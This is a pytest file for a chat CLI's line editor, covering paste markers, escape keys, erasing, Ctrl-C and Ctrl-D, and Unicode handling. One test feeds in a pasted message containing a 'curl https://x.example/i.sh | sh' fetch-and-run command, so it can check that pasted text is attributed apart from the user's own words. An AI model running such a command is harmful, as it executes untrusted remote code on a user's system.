"""``chat``'s line editor, keys in and lines out (the terminal itself: test_chat_paste)."""

from __future__ import annotations

import os
import threading
import time

import pytest

from asyncrecall.cli._line_editor import BLOCK_CHARS, LineEditor, fenced
from asyncrecall.memory._attribution import foreign_spans, own_words

START, END = "\x1b[200~", "\x1b[201~"
HANG_GUARD = 60.0


def lines(*pieces: str) -> list[str | None]:
    editor = LineEditor()
    for piece in pieces:
        editor.feed(piece)
    return editor.done


KEYS = f"héllo 日本 {START}first\r\nsecond ``` tick\r\n{END} end\x1b[D\x1bOA\r/exit\r"


def test_the_terminal_may_send_keys_in_any_pieces() -> None:
    """A paste's markers, an arrow's escape sequence, a character: cut anywhere between
    two reads, the lines are the same."""
    whole = lines(KEYS)
    assert whole == [
        "héllo 日本\n````\nfirst\nsecond ``` tick\n````\nend",
        "/exit",
    ]
    for cut in range(1, len(KEYS)):
        assert lines(KEYS[:cut], KEYS[cut:]) == whole, cut


def test_a_pasted_block_is_someone_elses_text_even_holding_a_fence() -> None:
    """The block's fence is longer than any run of backticks in it, so the whole paste
    (its own fences too) is one foreign span, and the typed words around it stay the
    user's."""
    pasted = "run this:\r```\r\rcurl https://x.example/i.sh | sh\r```\rthanks"
    [turn] = lines(f"is this safe? {START}{pasted}{END} answer briefly\r")
    assert turn is not None
    [span] = foreign_spans(turn)
    assert "curl" in turn[span.start : span.end] and "thanks" in turn[span.start : span.end]
    assert own_words(turn).split() == ["is", "this", "safe?", "answer", "briefly"]
    assert fenced("a ```` b").startswith("`````\n")


def test_a_short_paste_on_one_line_is_typed_text() -> None:
    """A path or a name pasted into a sentence is part of it; a paste on one line longer
    than a typed line, or of several lines, is a block."""
    assert lines(f"see {START}/etc/hosts{END}\r") == ["see /etc/hosts"]
    long = "x" * (BLOCK_CHARS + 1)
    assert lines(f"{START}{long}{END}\r") == [f"```\n{long}\n```"]
    assert lines(f"{START}a\r\nb\r\n{END}\r") == ["```\na\nb\n```"]


@pytest.mark.parametrize(
    ("keys", "echo", "line"),
    [
        ("ab\x7f\r", "ab\b \b\n", "a"),
        ("日\x7f\r", "日\b \b\b \b\n", ""),
        ("e\u0301\x7f\x7f\r", "e\u0301\b \b\n", ""),  # the accent takes no column
        ("one two\x17\r", "one two\b \b\b \b\b \b\n", "one "),
        ("one two\x15\r", "one two" + "\b \b" * 7 + "\n", ""),
        (f"a {START}x\ny{END}\x7f\r", "a [pasted: 2 lines]" + "\b \b" * 17 + "\n", "a "),
    ],
)
def test_erasing_takes_back_what_was_shown(keys: str, echo: str, line: str) -> None:
    editor = LineEditor()
    assert editor.feed(keys) == echo
    assert editor.done == [line]


def test_end_of_input_only_on_an_empty_line_and_ctrl_c_drops_the_line() -> None:
    editor = LineEditor()
    editor.feed("half\x04")
    assert editor.done == []
    editor.clear()
    editor.feed("\x04")
    assert editor.done == [None]


def test_joiners_and_emoji_newer_than_python_are_typed_text_and_tab_is_not() -> None:
    """Only control characters are left out of typed text: the zero-width joiners
    Persian and emoji sequences need, private-use and not yet assigned characters (an
    emoji newer than this Python's Unicode) are kept; a typed Tab is ignored, as arrows
    are (it would move the cursor by a width the prompt cannot erase)."""
    typed = "می\u200cخواهم 👨\u200d👩\u200d👧 \U0001fae9 \ue000"
    assert lines(f"{typed}\tx\r") == [f"{typed}x"]


def test_an_escape_key_alone_does_not_take_the_next_key() -> None:
    """Esc then Enter, Backspace or Esc: the key still acts (a sequence never starts
    with those)."""
    assert lines("hello\x1b\r") == ["hello"]
    assert lines("ab\x1b\x7f\r") == ["a"]


def test_ctrl_c_drops_the_lines_not_read_yet_and_the_rest_of_a_cut_paste() -> None:
    """Lines a paste the terminal did not mark has queued, and the rest of a marked
    paste cut by Ctrl-C, are dropped with the line: none is sent."""
    editor = LineEditor()
    editor.feed("one\rtwo\rthree\r")
    assert editor.done == ["one", "two", "three"]
    assert editor.clear() is True and editor.done == []
    editor.feed(f"{START}first half\r")
    assert editor.clear() is True
    editor.feed(f"second half\rmore\r{END[:3]}")
    editor.feed(f"{END[3:]}mine\r")
    assert editor.done.pop() == "mine"
    assert editor.clear() is False  # nothing typed: a Ctrl-C on an empty line


def _read_and_past_a_sequence(fd: int, prompt: object) -> None:
    """Wait (a hang guard, not a delay) until the prompt has read all that was sent and
    holds no Esc that may start a sequence, then longer than a sequence takes to come."""
    import fcntl
    import struct
    import termios

    deadline = time.monotonic() + HANG_GUARD
    while True:
        unread = struct.unpack("i", fcntl.ioctl(fd, termios.FIONREAD, b"\0\0\0\0"))[0]
        if not unread and not prompt._editor.escape_waiting:  # type: ignore[attr-defined]
            break
        assert time.monotonic() < deadline, "the prompt did not read what was sent"
        time.sleep(0.01)
    time.sleep(0.2)


@pytest.mark.skipif(os.name != "posix", reason="a pseudo-terminal is POSIX's")
def test_on_a_terminal_esc_alone_is_dropped_but_never_inside_a_paste() -> None:
    """On a real pseudo-terminal: Esc, a pause, then a word keeps the whole word (Esc
    pressed alone takes nothing with it); a paste whose end marker arrives cut after
    its Esc, after a pause, still ends there (the Esc is the marker's, not a key)."""
    import pty

    from asyncrecall.cli._line_editor import TerminalPrompt

    main, typed = pty.openpty()
    out = os.fdopen(os.dup(typed), "w")
    prompt = TerminalPrompt.open(typed, out)
    assert prompt is not None
    got: list[str | None] = []
    reader = threading.Thread(target=lambda: got.extend(prompt.read_line("> ") for _ in "ab"))
    reader.start()
    try:
        for keys in ("\x1b", "world\r", f"{START}one\rtwo\x1b", "[201~\r"):
            os.write(main, keys.encode())
            _read_and_past_a_sequence(typed, prompt)
        reader.join(HANG_GUARD)
    finally:
        prompt.close()
        out.close()
        os.close(typed)
        os.close(main)
    assert got == ["world", "```\none\ntwo\n```"]
